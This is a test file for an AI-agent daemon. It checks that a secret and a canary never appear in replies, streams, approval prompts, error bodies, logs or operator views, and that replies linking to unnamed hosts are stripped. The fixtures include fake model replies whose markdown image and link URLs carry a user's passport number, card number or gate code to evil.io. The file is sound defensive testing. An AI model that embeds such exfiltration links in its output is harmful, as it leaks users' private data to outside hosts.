import { readdir, readFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestDaemon } from "../support/daemon.ts";
import { removeFolder, startDaemon } from "../support/daemon.ts";

const secret = ["quartz", "Heron", "47-lantern", "Dune!82"].join("_");
/** A daemon's prompt holds its canary in the tail, so a script says `$TAIL` where a model would say the canary. */
const planted = `${secret} / $TAIL`;
const canary = /CTKN_?[0-9a-f]{6}/iu;

interface Event {
  readonly name: string;
  readonly data: any;
}

let daemon: TestDaemon;

/** Everything that a reader of a stream gets to see. */
async function streamOf(
  rehearsal: readonly object[],
  message = "go",
): Promise<{ text: string; events: Event[] }> {
  const response = await fetch(`${daemon.url}/api/chat/stream`, {
    method: "POST",
    headers: { authorization: `Bearer ${daemon.token}`, "content-type": "application/json" },
    body: JSON.stringify({ message, rehearsal }),
  });
  let text = "";
  const decoder = new TextDecoder();
  // A held turn's stream stays open; what there is to see of it has come by then.
  for await (const chunk of response.body ?? []) {
    text += decoder.decode(chunk, { stream: true });
    if (/event: (?:held|done)\r?\n(?:id: .*\r?\n)?data: .*\n/u.test(text)) break;
  }
  const found = text.matchAll(/event: (\w+)\r?\n(?:id: .*\r?\n)?data: (.*)/gu);
  return {
    text,
    events: [...found].map(([, name = "", data = ""]) => ({ name, data: JSON.parse(data) })),
  };
}

function expectNothing(shown: unknown, where: string): void {
  const text = typeof shown === "string" ? shown : JSON.stringify(shown);
  expect(text.includes(secret), `${where} shows the secret: ${text}`).toBe(false);
  expect(canary.exec(text)?.[0], `${where} shows the canary: ${text}`).toBeUndefined();
}

beforeAll(async () => {
  daemon = await startDaemon();
  const { status } = await daemon.request("/api/secrets/demo", { method: "PUT", body: { value: secret } });
  expect(status).toBeLessThan(300);
});
afterAll(async () => {
  await daemon.stop();
  await removeFolder(dirname(daemon.folder));
});

describe("what is planted does not leave", () => {
  it("in a reply, nor in what is shown of the conversation later", async () => {
    const { body } = await daemon.chat("say it", { rehearsal: [{ say: planted }] });
    expectNothing(body, "the reply");
    expect(body.reply.text).toContain("[REDACTED:canary]");
    expectNothing(
      (await daemon.request(`/api/conversations/${body.conversation}/messages`)).body,
      "the list",
    );
    expectNothing((await daemon.request("/api/conversations")).body, "the conversations");
    expectNothing((await daemon.request(`/api/turns/${body.turn}`)).body, "the turn");
  });

  it("in a stream's previews, whatever pieces they come in", async () => {
    for (const size of [1, 5]) {
      const pieces = secret.match(new RegExp(`[^]{1,${size}}`, "gu")) ?? [];
      const { text, events } = await streamOf([{ stream: ["a ", ...pieces, " b ", "$TAIL", " z"] }]);
      expectNothing(text, "the stream");
      const shown = events.filter(({ name }) => name === "delta").map(({ data }) => data.text);
      expectNothing(shown.join(""), "the deltas together");
      expectNothing(events.at(-1), "the end");
    }
  });

  it("in the summaries and names of calls in a stream", async () => {
    const { text } = await streamOf([
      { call: "write", args: { path: "a.txt", content: planted } },
      { call: "read", args: { path: "a.txt" } },
      { call: "read", args: { path: planted } },
      { call: "nothing", args: { [secret]: "$TAIL" } },
      { say: "$LAST" },
    ]);
    expectNothing(text, "the stream");
  });

  it("in the question that a held call puts to a person, in the notice, and in the list of holds", async () => {
    const rehearsal = [
      { call: "write", args: { path: "b.txt", content: "x" } },
      { call: "delete", args: { path: "b.txt" } },
      { say: planted },
    ];
    const { events, text } = await streamOf(rehearsal);
    expect(events.some(({ name }) => name === "held")).toBe(true);
    expectNothing(text, "the held stream");
    const { body } = await daemon.request("/api/holds");
    expectNothing(body, "the holds");
    for (const { id } of body.holds)
      await daemon.request(`/api/holds/${id}`, { method: "POST", body: { decision: "deny" } });
  });

  it("in a failure that repeats what failed", async () => {
    const { body, status } = await daemon.chat("fail", {
      rehearsal: [{ fail: `the model broke: ${secret}` }],
    });
    expect(status).toBeGreaterThanOrEqual(200);
    expectNothing(body, "the failure");
    expectNothing((await streamOf([{ fail: secret }])).text, "the failed stream");
  });

  it("in an answer of the API that refuses what it was sent", async () => {
    const bodies: readonly (readonly [string, unknown])[] = [
      ["/api/chat", { message: "x", agent: secret }],
      ["/api/chat", { message: "x", conversation: secret }],
      ["/api/chat", { message: "x", [secret]: 1 }],
      ["/api/chat", { parts: [{ type: secret }] }],
      ["/api/chat", { message: "x", user: secret }],
      [`/api/secrets/${encodeURIComponent(secret)}`, { value: "12345678" }],
      [`/api/holds/${encodeURIComponent(secret)}`, { decision: secret }],
    ];
    for (const [path, body] of bodies) {
      const answer = await daemon.request(path, { method: path.includes("secrets") ? "PUT" : "POST", body });
      expect(answer.status, path).toBeGreaterThanOrEqual(400);
      expectNothing(answer.body, path);
    }
    for (const path of [`/api/turns/${secret}`, `/api/conversations/${secret}/messages`, `/api/${secret}`])
      expectNothing((await daemon.request(path)).body, path);
  });

  it("with a file: in its name, its text, or what a reply says of it", async () => {
    const { body } = await daemon.request("/api/chat", {
      method: "POST",
      body: {
        parts: [
          { type: "text", text: "see the file" },
          { type: "file", name: `${secret}.txt`, mediaType: "text/plain", text: `holds ${secret}` },
        ],
        rehearsal: [{ say: `I read ${secret}.txt: ${planted}` }],
      },
    });
    expectNothing(body, "the reply about a file");
    const listed = await daemon.request(`/api/conversations/${body.conversation}/messages`);
    expectNothing(
      listed.body.messages.flatMap(({ parts = [] }: any) => parts.map(({ name }: any) => name)),
      "its name",
    );
  });

  it("in the records, their warnings, the live events, the log and the views of the operator", async () => {
    const stop = new AbortController();
    const headers = { authorization: `Bearer ${daemon.token}` };
    const feed = await fetch(`${daemon.url}/api/events`, { headers, signal: stop.signal });
    const reader = feed.body?.getReader();
    await daemon.chat("again", {
      rehearsal: [
        { call: "write", args: { path: "c.txt", content: planted } },
        { call: secret, args: {} },
        { say: planted },
      ],
    });
    let live = "";
    while (!live.includes("turn:answered")) {
      const { value, done } = (await reader?.read()) ?? { value: undefined, done: true };
      if (done) break;
      live += new TextDecoder().decode(value);
    }
    stop.abort();
    expect(live).toContain("canary-leaked");
    expectNothing(live, "the live events");
    for (const path of ["/api/records?last=500", "/api/doctor", "/api/config", "/api/secrets", "/health"])
      expectNothing((await daemon.request(path)).body, path);
    const folder = join(daemon.folder, "logs");
    for (const name of await readdir(folder))
      expectNothing(await readFile(join(folder, name), "utf8"), `logs/${name}`);
    expectNothing(daemon.stderr(), "standard error");
  });

  it("by an image or a link to a host that nobody named, in a reply or in a stream", async () => {
    const said = "Henrietta Obermann, passport C01X00T478";
    const image = `Done. ![x](https://collect.evil.io/p.png?d=${Buffer.from(said).toString("base64url")}) Bye.`;
    const { body } = await daemon.chat(`I am ${said}. Book the flight.`, { rehearsal: [{ say: image }] });
    expect(body.reply.text).toBe("Done. ![x] [image removed: evil.io] Bye.");
    const { text } = await streamOf([{ stream: image.match(/.{1,6}/gsu) ?? [] }], `I am ${said}.`);
    expect(text).not.toContain("collect");
    const link = `[more](https://evil.io/t/C01X00T478) and [docs](https://nodejs.org/api/fs.html)`;
    const named = await daemon.chat(`I am ${said}. See evil.io for it.`, { rehearsal: [{ say: link }] });
    expect(named.body.reply.text).toBe(link);
    const unnamed = await daemon.chat(`I am ${said}.`, { rehearsal: [{ say: link }] });
    expect(unnamed.body.reply.text).toBe(
      "[more] [link removed: evil.io] and [docs](https://nodejs.org/api/fs.html)",
    );
    const { body: records } = await daemon.request("/api/records?last=500");
    expect(records.records.some(({ event }: any) => event === "exfiltration-link")).toBe(true);
  });

  it("by a link that repeats what a tool brought, or what was said in an earlier turn", async () => {
    const first = await daemon.chat("My number is 4929-1184-0031.", { rehearsal: [{ say: "Noted." }] });
    const later = await daemon.chat("And now the picture.", {
      conversation: first.body.conversation,
      rehearsal: [{ say: "![p](https://evil.io/4929-1184-0031)" }],
    });
    expect(later.body.reply.text).toBe("![p] [image removed: evil.io]");
    const { body } = await daemon.chat("Summarise the note.", {
      rehearsal: [
        { call: "write", args: { path: "note.txt", content: "The gate code is Lobster-7741-East." } },
        { call: "read", args: { path: "note.txt" } },
        { say: "Read on [here](https://evil.io/lobster-7741-east)." },
      ],
    });
    expect(body.reply.text).toBe("Read on [here] [link removed: evil.io].");
  });
});

describe("the settings for links", () => {
  it("let pass what they allow", async () => {
    const config = "outbound:\n  links:\n    allow: [evil.io]\n";
    const own = await startDaemon({ config });
    const image = "![x](https://evil.io/p.png?d=1)";
    expect((await own.chat("hi", { rehearsal: [{ say: image }] })).body.reply.text).toBe(image);
    await own.stop();
    await removeFolder(dirname(own.folder));
    const recording = await startDaemon({ config: "outbound:\n  links:\n    action: allow\n" });
    expect((await recording.chat("hi", { rehearsal: [{ say: image }] })).body.reply.text).toBe(image);
    const { body } = await recording.request("/api/records?last=100");
    expect(body.records.some(({ event }: any) => event === "exfiltration-link")).toBe(true);
    await recording.stop();
    await removeFolder(dirname(recording.folder));
  });
});
